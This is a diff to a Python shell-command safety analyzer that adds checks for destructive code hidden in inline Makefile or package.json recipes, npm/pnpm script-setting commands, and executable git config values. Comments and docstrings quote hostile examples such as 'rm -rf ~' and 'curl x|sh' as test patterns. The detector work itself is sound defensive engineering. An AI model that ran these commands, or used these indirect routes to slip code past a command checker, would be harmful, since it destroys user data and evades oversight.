@@ -5264,7 +5264,7 @@ class _Analyzer:
         elif name == "echo":
             body = " ".join(v for v in vals if v not in ("-e", "-n", "-E")) + "\n"
         elif name == "printf" and vals and not vals[0].startswith("-"):
-            body = vals[0].replace("\\n", "\n") + "".join("\n" + v for v in vals[1:])
+            body = vals[0].replace("\\n", "\n").replace("\\t", "\t") + "".join("\n" + v for v in vals[1:])
         else:
             return
         for r in redirs:
@@ -5675,6 +5675,18 @@ class _Analyzer:
                 # the same command, seen by no one (probe round 28): neither a file command
                 # nor a build, what is left (asked in accept_edits too)
                 self.file_or_build = False
+        if self.script_texts and not dynamic_name and name in C.SAFE_BUILD_NAMES:
+            # a recipe written in this command whose text holds one of seed 004's
+            # destructive patterns runs now (echo 'test: ; rm -rf ~' > Makefile && make
+            # test, printf '{"scripts":{"test":"curl x|sh"}}' > package.json && npm test)
+            for p, body in list(self.script_texts.items()):
+                if not C.build_definition(p) or ("build_recipe", p) in self._seen:
+                    continue
+                hit = D.text_findings(body[:100_000], shell_shaped=True)
+                if hit is not None:
+                    self._seen.add(("build_recipe", p))
+                    self.catastrophic.append(_new_finding(hit[0], f"a build runs a recipe just written with it: {hit[1]}",
+                                                          text))
         # a build's output kept in a file as it is shown (npm run build | tee build.log):
         # what the build wrote, not something it then runs
         tee_output = (name == "tee" and stdin is not None and stdin.build and not dynamic_name and not env
@@ -7053,6 +7065,24 @@ class _Analyzer:
         self.npm_options(vals)
         if vals[:1] in (["exec"], ["x"]):
             self.runner_exec(args[1:], ctx, part, stdin, "npm")
+        self.script_set(vals, ctx, part)
+
+    def script_set(self, vals: list[str], ctx: _Ctx, part: str) -> None:
+        """npm pkg set scripts.NAME=CODE, npm set-script NAME CODE (pnpm, bun pkg set):
+        CODE is what `npm run NAME` runs next (npm pkg set scripts.test='rm -rf ~' &&
+        npm test), read as the code it is."""
+        ops = [v for v in vals if not v.startswith("-")]
+        codes: list[str] = []
+        if ops[:2] == ["pkg", "set"]:
+            codes = [v.split("=", 1)[1] for v in ops[2:] if v.startswith("scripts.") and "=" in v]
+        elif ops[:1] == ["set-script"] and len(ops) >= 3:
+            codes = [ops[2]]
+        for code in codes:
+            if code.strip():
+                try:
+                    self.inner_code(_static(code), ctx, "npm", ctx.written or (), part)
+                except _Unparseable:
+                    self.mark_dynamic()
 
     def npm_options(self, vals) -> None:
         # --script-shell=PROG runs every script with PROG, --node-options=--require=F
@@ -7068,6 +7098,7 @@ class _Analyzer:
         self.npm_options(vals)
         if vals[:1] in (["exec"], ["dlx"]):
             self.runner_exec(args[1:], ctx, part, stdin, "pnpm")
+        self.script_set(vals, ctx, part)
 
     def fx_yarn(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
         self.npm_options(vals)
@@ -7870,6 +7901,42 @@ class _Analyzer:
         if any(not d.exact or _remote_display(d.value) for d in displays):
             self.cat(REMOTE_SHELL, part)
 
+    _GIT_CONFIG_VALUED = frozenset({"-f", "--file", "--blob", "--type", "--default", "--comment", "--value"})
+
+    def git_config_set(self, sub_args: list[str], ctx: _Ctx, part: str) -> None:
+        """git config [--global...] KEY VALUE (or git config set KEY VALUE) of a key whose
+        value git runs later (core.pager, core.sshCommand, an alias with "!"...): the
+        value is the code the next git command runs, read as git -c KEY=VALUE's is
+        (git config core.pager 'rm -rf ~' && git log)."""
+        operands: list[str] = []
+        i = 0
+        while i < len(sub_args):
+            a = sub_args[i]
+            if a == "--":
+                operands.extend(sub_args[i + 1:])
+                break
+            if a.startswith("-"):
+                if a in self._GIT_CONFIG_VALUED:
+                    i += 1
+                i += 1
+                continue
+            operands.append(a)
+            i += 1
+        if operands[:1] in (["set"], ["--add"]):
+            operands = operands[1:]
+        if len(operands) < 2:
+            return
+        key, value = operands[0], operands[1]
+        if not C.GIT_EXEC_CONFIG.match(key.casefold()) or C.GIT_HARMLESS_C.fullmatch(f"{key}={value}"):
+            return
+        alias = key.casefold().startswith("alias.")
+        code = value[1:] if alias else value
+        if code.strip() and (not alias or value.startswith("!")):
+            try:
+                self.inner_code(_static(code), ctx, "git", ctx.written or (), part)
+            except _Unparseable:
+                self.mark_dynamic()
+
     def fx_git(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
         glob, sub, sub_args, _ = C.git_split(vals)
         for i, v in enumerate(glob):
@@ -7889,6 +7956,8 @@ class _Analyzer:
                 self.mark_dynamic()
         if sub is None:
             return
+        if sub == "config":
+            self.git_config_set(sub_args, ctx, part)
         opts = [a for a in sub_args if a.startswith("-")]
         operands = [a for a in sub_args if not a.startswith("-")]
         for j, o in enumerate(sub_args):
